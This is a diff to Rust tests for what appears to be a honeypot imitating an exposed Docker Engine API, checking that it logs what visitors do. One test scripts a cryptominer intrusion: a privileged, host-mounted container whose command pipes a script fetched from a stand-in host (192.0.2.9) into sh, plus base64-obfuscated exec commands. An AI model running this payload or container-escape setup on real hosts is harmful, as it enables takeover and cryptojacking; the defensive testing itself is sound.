@@ -41,6 +41,7 @@ fn a_container_is_created_started_and_seen_to_end() {
         Step::Recv(wait.as_bytes()),
         Step::Wait(6_000),
         Step::Recv(logs.as_bytes()),
+        Step::Wait(10),
     ]);
     let all = answers(&outcome);
     let statuses: Vec<u16> = all.iter().map(|answer| answer.0).collect();
@@ -133,7 +134,7 @@ fn errors_are_in_the_daemons_own_words() {
         ),
         (create("x1", json!({"Image": "nginx", "HostConfig": {"Runtime": "no"}})), 400, "Unknown runtime specified no"),
         (post("/v1.41/containers/create", "text/plain", "{}"), 400, "Content-Type specified (text/plain) must be"),
-        (post("/v1.41/containers/create", "application/json", "{"), 400, "unexpected EOF"),
+        (post("/v1.41/containers/create", "application/json", "{"), 500, "unexpected EOF"),
         (call("POST", "/containers/web2/kill", none.clone()), 409, "Cannot kill container: web2: Container "),
         (call("POST", "/containers/web1/unpause", none.clone()), 500, "is not paused"),
         (call("GET", "/containers/web1/logs", none.clone()), 400, "you must choose at least one stream"),
@@ -155,17 +156,12 @@ fn files_go_into_a_container_and_come_out_again() {
     let before =
         [call("POST", "/containers/create?name=box", create), call("POST", "/containers/box/start", Value::Null)]
             .concat();
-    let after = [
-        call("GET", "/containers/box/archive?path=/tmp/miner.sh", Value::Null),
-        call("GET", "/containers/box/changes", Value::Null),
-        call("GET", "/containers/box/archive?path=/mnt/etc/passwd", Value::Null),
-    ]
-    .concat();
-    let outcome = Transcript::tcp("docker", "").run(&[
-        Step::Recv(before.as_bytes()),
-        Step::Recv(&put),
-        Step::Recv(after.as_bytes()),
-    ]);
+    let after = ["/archive?path=/tmp/miner.sh", "/changes", "/archive?path=/mnt/etc/passwd"]
+        .map(|path| call("GET", &format!("/containers/box{path}"), Value::Null));
+    let mut steps = vec![Step::Recv(before.as_bytes()), Step::Recv(&put)];
+    // An archive is streamed.
+    steps.extend(after.iter().flat_map(|request| [Step::Recv(request.as_bytes()), Step::Wait(10)]));
+    let outcome = Transcript::tcp("docker", "").run(&steps);
     let all = answers(&outcome);
     assert_eq!(all.iter().map(|answer| answer.0).collect::<Vec<_>>(), [201, 204, 200, 200, 200, 200]);
     assert!(all[3].1.contains("X-Docker-Container-Path-Stat: ") && all[3].2.contains("#!/bin/sh\n"));
@@ -216,7 +212,7 @@ fn what_is_done_to_the_machine_is_seen_afterwards() {
         (ask("GET", "/containers/box-b/json", Value::Null), 200, "\"IPAddress\":\"172.17.0."),
         (ask("GET", "/containers/box-b/json", Value::Null), 200, "\"Destination\":\"/host\",\"Mode\":\"ro\""),
         (ask("GET", "/containers/box-b/archive?path=/x", Value::Null), 404, "Could not find the file /x in container"),
-        (ask("POST", "/containers/box-b/rename?name=box-b", Value::Null), 409, "is already in use"),
+        (ask("POST", "/containers/box-b/rename?name=box-b", Value::Null), 400, "the same name as its current name"),
         (ask("POST", "/images/nginx:1.21/tag?repo=x&tag=y", Value::Null), 201, ""),
         (ask("GET", "/images/x:y/json", Value::Null), 200, "x:y"),
         (ask("POST", "/networks/create", json!({"Name": "n"})), 201, "Id"),
@@ -225,12 +221,16 @@ fn what_is_done_to_the_machine_is_seen_afterwards() {
         (ask("DELETE", "/networks/n", Value::Null), 204, ""),
         (ask("GET", "/networks/n", Value::Null), 404, "network n not found"),
         (ask("DELETE", "/networks/bridge", Value::Null), 403, "pre-defined network"),
-        (ask("POST", "/volumes/create", json!({"Name": "v"})), 201, "/var/lib/docker/volumes/v/_data"),
-        (ask("GET", "/volumes", Value::Null), 200, "\"Name\":\"v\""),
-        (ask("DELETE", "/volumes/v", Value::Null), 204, ""),
-        (ask("DELETE", "/volumes/v", Value::Null), 404, "no such volume"),
+        (ask("POST", "/volumes/create", json!({"Name": "vol"})), 201, "/var/lib/docker/volumes/vol/_data"),
+        (ask("GET", "/volumes", Value::Null), 200, "\"Name\":\"vol\""),
+        (ask("DELETE", "/volumes/vol", Value::Null), 204, ""),
+        (ask("DELETE", "/volumes/vol", Value::Null), 404, "no such volume"),
         (ask("POST", "/build/prune", Value::Null), 200, "SpaceReclaimed"),
-        (ask("POST", "/swarm/init", json!({})), 400, "could not choose an IP address to advertise"),
+        (
+            ask("POST", "/swarm/init", json!({"ListenAddr": "0.0.0.0:2377"})),
+            400,
+            "could not choose an IP address to advertise",
+        ),
         (ask("POST", "/images/base:1/tag?repo=alpine", Value::Null), 404, "No such image"),
         (ask("POST", "/images/nginx:1.21/tag?repo=alpine", Value::Null), 201, ""),
         (ask("POST", "/containers/create?name=box-c", json!({"Image": "alpine", "Cmd": ["nosuch"]})), 201, "Id"),
@@ -241,4 +241,156 @@ fn what_is_done_to_the_machine_is_seen_afterwards() {
         (ask("GET", "/containers/box-d/json", Value::Null), 200, "\"Status\":\"running\""),
     ];
     answered(&script);
+}
+
+#[test]
+fn the_two_streams_of_a_command_are_told_apart_and_chosen() {
+    let script = "echo out; echo err >&2";
+    let config = json!({"Image": "alpine:3.14", "Cmd": ["sh", "-c", script]});
+    let logs = |query: &str| call("GET", &format!("/containers/two/logs?{query}"), Value::Null);
+    let exec = |streams: Value| {
+        let mut config = json!({"Cmd": ["sh", "-c", script]});
+        config.as_object_mut().unwrap().extend(streams.as_object().unwrap().clone());
+        config
+    };
+    let (out, err) = ("\x01\0\0\0\0\0\0\x04out\n", "\x02\0\0\0\0\0\0\x04err\n");
+    let both = format!("{out}{err}");
+    let outcome = answered(&[
+        (call("POST", "/containers/create?name=two", config), 201, "Id"),
+        (call("POST", "/containers/two/start", Value::Null), 204, ""),
+        (logs("stdout=1&stderr=1"), 200, &both),
+        (logs("stdout=1"), 200, out),
+        (logs("stderr=1"), 200, err),
+        (logs("stdout=1&stderr=1&tail=1"), 200, err),
+        (logs("stdout=1&stderr=1&follow=1"), 200, &both),
+        (logs("stdout=1&timestamps=1"), 200, "Z out\n"),
+        (call("POST", "/containers/two/exec", exec(json!({"AttachStderr": true}))), 409, "is not running"),
+    ]);
+    let all = answers(&outcome);
+    assert_eq!((all[3].2.as_str(), all[4].2.as_str(), all[5].2.as_str()), (out, err, err));
+    assert_eq!(outcome.events.iter().filter(|event| event.kind == "command").count(), 2);
+}
+
+#[test]
+fn what_happened_to_a_container_is_told_to_who_asks_for_events() {
+    let config = json!({"Image": "alpine:3.14", "Cmd": ["sh", "-c", "exit 7"], "Labels": {"a": "b"}});
+    let outcome = answered(&[
+        (call("POST", "/containers/create?name=one", config), 201, "Id"),
+        (call("POST", "/containers/one/start", Value::Null), 204, ""),
+        (call("DELETE", "/containers/one", Value::Null), 204, ""),
+        (
+            call(
+                "GET",
+                "/events?since=1&until=1700000020&filters=%7B%22type%22%3A%5B%22container%22%5D%7D",
+                Value::Null,
+            ),
+            200,
+            "exitCode",
+        ),
+    ]);
+    let told = &answers(&outcome)[3].2;
+    let actions: Vec<String> = told
+        .lines()
+        .map(|line| serde_json::from_str::<Value>(line).unwrap())
+        .filter(|event| event["Actor"]["Attributes"]["name"] == "one")
+        .map(|event| event["status"].as_str().unwrap().to_owned())
+        .collect();
+    assert_eq!(actions, ["create", "start", "die", "destroy"], "{told}");
+    assert!(told.contains("\"exitCode\":\"7\"") && told.contains("\"a\":\"b\""));
+}
+
+/// A miner's visit as it is told of open engines: a container on the machine's files, what it runs in them, and what it asks afterwards.
+#[test]
+fn an_attack_on_an_open_engine_leaves_a_full_record() {
+    let payload = "chroot /mnt sh -c 'echo Kgk= | base64 -d; (curl -fsSL http://192.0.2.9/d.sh || wget -q -O- http://192.0.2.9/d.sh) | sh'";
+    let config = json!({
+        "Image": "alpine:latest", "Cmd": ["sh", "-c", payload], "Env": ["LANG=C"], "Tty": false,
+        "HostConfig": {"Binds": ["/:/mnt"], "Privileged": true, "NetworkMode": "host", "PidMode": "host",
+            "RestartPolicy": {"Name": "always"}},
+    });
+    let exec = json!({"Cmd": ["sh", "-c", "echo aWQ= | base64 -d | sh"], "AttachStdout": true, "AttachStderr": true});
+    let outcome = answered(&[
+        (call("GET", "/version", Value::Null), 200, "ApiVersion"),
+        (call("GET", "/containers/json", Value::Null), 200, "Up "),
+        (call("POST", "/containers/create?name=miner", config.clone()), 404, "No such image: alpine:latest"),
+        (
+            call("POST", "/images/create?fromImage=alpine&tag=latest", Value::Null),
+            200,
+            "Downloaded newer image for alpine:latest",
+        ),
+        (call("POST", "/containers/create?name=miner", config), 201, "Id"),
+        (call("POST", "/containers/miner/start", Value::Null), 204, ""),
+        (call("GET", "/containers/miner/json", Value::Null), 200, "\"Privileged\":true"),
+        (
+            call("POST", "/containers/create?name=chattr", json!({"Image": "cmd.cat/chattr", "Cmd": ["sleep", "60"]})),
+            404,
+            "No such image",
+        ),
+        (
+            call("POST", "/images/create?fromImage=cmd.cat%2Fchattr&tag=latest", Value::Null),
+            200,
+            "Downloaded newer image",
+        ),
+        (
+            call("POST", "/containers/create?name=chattr", json!({"Image": "cmd.cat/chattr", "Cmd": ["sleep", "60"]})),
+            201,
+            "Id",
+        ),
+        (call("POST", "/containers/chattr/start", Value::Null), 204, ""),
+        (call("POST", "/containers/chattr/exec", exec), 201, "Id"),
+        (call("DELETE", "/containers/chattr?force=1", Value::Null), 204, ""),
+    ]);
+    let requests: Vec<&Value> = outcome.events.iter().filter_map(|event| event.fields.get("decoded")).collect();
+    let made = requests.iter().filter_map(|decoded| decoded.get("container")).next_back().unwrap();
+    assert_eq!(made["image"], "cmd.cat/chattr");
+    let made = &requests.iter().find_map(|decoded| decoded.get("container")).unwrap();
+    let told =
+        [("binds", json!(["/:/mnt"])), ("privileged", json!(true)), ("network", json!("host")), ("pid", json!("host"))];
+    for (name, value) in
+        told.into_iter().chain([("restart", json!("always")), ("command", json!(["sh", "-c", payload]))])
+    {
+        assert_eq!(made[name], value, "{name}");
+    }
+    let commands: Vec<&str> = outcome
+        .events
+        .iter()
+        .filter(|event| event.kind == "command")
+        .filter_map(|event| event.fields["command"].as_str())
+        .collect();
+    assert!(commands.contains(&format!("sh -c {payload}").as_str()), "{commands:?}");
+    assert!(commands.contains(&"sh -c echo aWQ= | base64 -d | sh"), "{commands:?}");
+    assert!(
+        outcome.downloads.iter().any(|download| download.url == "http://192.0.2.9/d.sh"),
+        "{:?}",
+        outcome.downloads
+    );
+}
+
+/// An image that was built for it brings its command with it.
+#[test]
+fn an_image_runs_what_its_dockerfile_says() {
+    let context = super::super::docker::archive_of(
+        "Dockerfile",
+        b"FROM alpine:3.14\nENV POOL=192.0.2.9:3333\nENTRYPOINT [\"sh\", \"-c\"]\nCMD [\"echo $POOL\"]\n",
+    );
+    let mut build = format!(
+        "POST /v1.41/build?t=mine HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-tar\r\nContent-Length: {}\r\n\r\n",
+        context.len()
+    )
+    .into_bytes();
+    build.extend(context);
+    let after = [
+        call("POST", "/containers/create?name=built", json!({"Image": "mine"})),
+        call("POST", "/containers/built/start", Value::Null),
+        call("GET", "/containers/built/logs?stdout=1", Value::Null),
+        call("GET", "/images/mine/json", Value::Null),
+    ];
+    let mut steps = vec![Step::Recv(&build), Step::Wait(20_000)];
+    steps.extend(after.iter().flat_map(|request| [Step::Recv(request.as_bytes()), Step::Wait(1_000)]));
+    let outcome = Transcript::tcp("docker", "").run(&steps);
+    let all = answers(&outcome);
+    assert!(all[3].2.ends_with("192.0.2.9:3333\n"), "{}", all[3].2);
+    assert!(all[4].2.contains("POOL=192.0.2.9:3333"), "{}", all[4].2);
+    let commands = outcome.events.iter().filter(|event| event.kind == "command");
+    assert!(commands.into_iter().any(|event| event.fields["command"] == "sh -c echo $POOL"));
 }
